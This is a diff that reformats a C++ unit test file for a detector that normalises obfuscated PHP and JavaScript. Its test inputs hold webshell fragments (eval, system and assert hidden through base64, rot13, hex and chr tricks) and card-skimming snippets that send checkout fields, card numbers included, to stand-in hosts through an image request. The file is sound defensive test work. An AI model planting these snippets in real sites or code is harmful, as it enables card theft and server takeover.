@@ -66,7 +66,9 @@ NormalizedCode Php(std::string_view src) { return Normalize(src, CodeKind::kPhp)
 NormalizedCode Js(std::string_view src) { return Normalize(src, CodeKind::kJs); }
 
 TEST(Normalize, CommentsGoneAndConcatenationFolded) {
-  auto n = Php("<?php /* eval($_POST[1]) */ // system($x)\n# passthru\n$f = 'ba'.'se'.(32*2).'_de'.'code'; echo \"\\x61\\163\\u{73}ert\";");
+  auto n =
+      Php("<?php /* eval($_POST[1]) */ // system($x)\n# passthru\n$f = "
+          "'ba'.'se'.(32*2).'_de'.'code'; echo \"\\x61\\163\\u{73}ert\";");
   std::string t = n.layers.at(0).text;
   EXPECT_EQ(t.find("eval"), std::string::npos) << t;
   EXPECT_EQ(t.find("passthru"), std::string::npos) << t;
@@ -101,8 +103,8 @@ TEST(Normalize, GzinflateBase64ChainAndHexEscapedPregE) {
   auto n = Php(src);
   EXPECT_TRUE(HasTrait(n, "php.request_to_shell")) << AllText(n);
   bool path = false;
-  for (const CodeLayer& l : n.layers) path |= l.path == "php>eval>base64_decode>gzinflate" ||
-                                             l.path == "php>base64_decode>gzinflate";
+  for (const CodeLayer& l : n.layers)
+    path |= l.path == "php>eval>base64_decode>gzinflate" || l.path == "php>base64_decode>gzinflate";
   EXPECT_TRUE(path) << AllText(n);
   // preg_replace with /e spelled in hex escapes, replacement taken from the request.
   auto p = Php("<?php preg_replace(\"\\x2f\\x2e\\x2a\\x2f\\x65\", $_POST['x'], 'a');");
@@ -110,8 +112,10 @@ TEST(Normalize, GzinflateBase64ChainAndHexEscapedPregE) {
 }
 
 TEST(Normalize, StrRot13StrrevHex2binPackUrldecodeChr) {
-  auto n = Php("<?php $f = str_rot13('flfgrz'); $g = strrev('tressa'); $h = hex2bin('73797374656d');"
-               " $i = pack('H*', '6576616c'); $j = urldecode('%61%73sert'); $k = chr(101).chr(118).chr(97).chr(108);");
+  auto n =
+      Php("<?php $f = str_rot13('flfgrz'); $g = strrev('tressa'); $h = hex2bin('73797374656d');"
+          " $i = pack('H*', '6576616c'); $j = urldecode('%61%73sert'); $k = "
+          "chr(101).chr(118).chr(97).chr(108);");
   std::string t = n.layers.at(0).text;
   for (const char* w : {"'system'", "'assert'", "'eval'"})
     EXPECT_NE(t.find(w), std::string::npos) << w << " in " << t;
@@ -140,26 +144,31 @@ TEST(Normalize, JsStringArrayFromCharCodeAtobAndBracketCalls) {
 }
 
 TEST(Normalize, JsCardFieldsSentThroughAnImage) {
-  auto n = Js("document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
-              "if(d['payment[cc_number]']){var m=new Image();m.src='https://stats.example/p?d='+btoa(JSON.stringify(d));}");
+  auto n =
+      Js("document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
+         "if(d['payment[cc_number]']){var m=new "
+         "Image();m.src='https://stats.example/p?d='+btoa(JSON.stringify(d));}");
   EXPECT_TRUE(HasTrait(n, "js.card_exfil")) << AllText(n);
   EXPECT_GE(Best(n), 3);
   // The same form code posting to the store itself is not exfiltration.
-  auto own = Js("var d=jQuery('#co-payment-form').serialize(); jQuery.post('/checkout/payment', d);"
-                "var cc=jQuery('[name=\"payment[cc_number]\"]').val();");
+  auto own =
+      Js("var d=jQuery('#co-payment-form').serialize(); jQuery.post('/checkout/payment', d);"
+         "var cc=jQuery('[name=\"payment[cc_number]\"]').val();");
   EXPECT_FALSE(HasTrait(own, "js.card_exfil")) << AllText(own);
 }
 
 TEST(Normalize, HtmlForeignScriptIsWeakAlone) {
-  auto n = Normalize("<html><script src=\"//cdn.other.example/x.js\"></script></html>", CodeKind::kHtml);
+  auto n =
+      Normalize("<html><script src=\"//cdn.other.example/x.js\"></script></html>", CodeKind::kHtml);
   EXPECT_TRUE(HasTrait(n, "html.external_script"));
   EXPECT_EQ(Best(n), 1);
 }
 
 TEST(Normalize, ShallowTaintKeepsFrameworkCallbacksQuiet) {
   // A router calling a controller callback with request data is not a webshell.
-  auto n = Php("<?php $params = $_GET; $controller = $this->resolve($route); "
-               "return call_user_func_array([$controller, 'handle'], [$params]);");
+  auto n =
+      Php("<?php $params = $_GET; $controller = $this->resolve($route); "
+          "return call_user_func_array([$controller, 'handle'], [$params]);");
   EXPECT_FALSE(HasTrait(n, "php.request_to_exec")) << AllText(n);
   // A template engine evaluating compiled code is weak alone.
   auto t = Php("<?php eval('?>' . $compiled);");
@@ -216,9 +225,11 @@ TEST(NormalizeBroken, FiftyMegabyteSingleLine) {
 }
 
 TEST(NormalizeBroken, DoublingConcatenationIsCharged) {
-  std::string src = "<?php $a0 = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';";
+  std::string src =
+      "<?php $a0 = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';";
   for (int i = 1; i < 60; ++i)
-    src += "$a" + std::to_string(i) + " = $a" + std::to_string(i - 1) + " . $a" + std::to_string(i - 1) + ";";
+    src += "$a" + std::to_string(i) + " = $a" + std::to_string(i - 1) + " . $a" +
+           std::to_string(i - 1) + ";";
   auto start = std::chrono::steady_clock::now();
   auto n = Php(src);
   double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
@@ -241,7 +252,8 @@ TEST(NormalizeBroken, InvalidUtf8AndControlCharacters) {
 // --- false alarms seen on clean trees ----------------------------------------------------
 
 TEST(NormalizeQuiet, PhpTagInImageDataIsNotCode) {
-  std::string png("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00<?=\x8f\xa3\x00\x11\x92\xff\xfe\x01", 32);
+  std::string png("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00<?=\x8f\xa3\x00\x11\x92\xff\xfe\x01",
+                  32);
   EXPECT_FALSE(PhpTagHoldsCode(png));
   EXPECT_EQ(ClassifyCode(png, "png"), CodeKind::kNone);
   std::string js_regex = "var re = /<?=\\s*/; ";
@@ -251,16 +263,18 @@ TEST(NormalizeQuiet, PhpTagInImageDataIsNotCode) {
 }
 
 TEST(NormalizeQuiet, BackticksInDocCommentsAreNotShellCalls) {
-  auto n = Php("<?php\n/**\n * Use `$_GET['page']` to pick the page, e.g. `?page=2`.\n */\n"
-               "function page() { return (int) ($_GET['page'] ?? 1); }");
+  auto n =
+      Php("<?php\n/**\n * Use `$_GET['page']` to pick the page, e.g. `?page=2`.\n */\n"
+          "function page() { return (int) ($_GET['page'] ?? 1); }");
   EXPECT_EQ(Best(n), 0) << AllText(n);
 }
 
 TEST(NormalizeQuiet, LicenceEncodedLoaderIsObfuscationOnly) {
   // The loader stub of an encoded commercial extension: no request input reaches a sink.
-  auto n = Php("<?php if(!extension_loaded('ionCube Loader')){$__oc=strtolower(substr(php_uname(),0,3));"
-               "$__ln='ioncube_loader_'.$__oc.'_'.substr(phpversion(),0,3).'.so';@dl($__ln);}"
-               "return;?>\nHR+cPo2kEaZ3zq1VJr8TxC8HyGmbpL0Hx6yH8s6q1");
+  auto n =
+      Php("<?php if(!extension_loaded('ionCube Loader')){$__oc=strtolower(substr(php_uname(),0,3));"
+          "$__ln='ioncube_loader_'.$__oc.'_'.substr(phpversion(),0,3).'.so';@dl($__ln);}"
+          "return;?>\nHR+cPo2kEaZ3zq1VJr8TxC8HyGmbpL0Hx6yH8s6q1");
   EXPECT_LT(Best(n), 3) << AllText(n);
 }
 
@@ -280,10 +294,13 @@ TEST(NormalizeJs, NamesHiddenInABase64StringArrayStillCount) {
     return s;
   };
   std::string table;
-  for (const char* w : {"payment[cc_number]", "checkout", "Image", "src", "https://cdn-stats.example/i.gif"})
+  for (const char* w :
+       {"payment[cc_number]", "checkout", "Image", "src", "https://cdn-stats.example/i.gif"})
     table += "'" + swap(Base64(w)) + "',";
-  auto n = Js("var _0x3f2a=[" + table + "];function _0x1b(i){return atob(_0x3f2a[i]);}"
-              "var v=document[_0x1b(0)];var m=new window[_0x1b(2)]();m[_0x1b(3)]=_0x1b(4)+btoa(v);");
+  auto n =
+      Js("var _0x3f2a=[" + table +
+         "];function _0x1b(i){return atob(_0x3f2a[i]);}"
+         "var v=document[_0x1b(0)];var m=new window[_0x1b(2)]();m[_0x1b(3)]=_0x1b(4)+btoa(v);");
   EXPECT_TRUE(HasTrait(n, "js.card_exfil")) << AllText(n);
   EXPECT_EQ(Best(n), 4);
 }
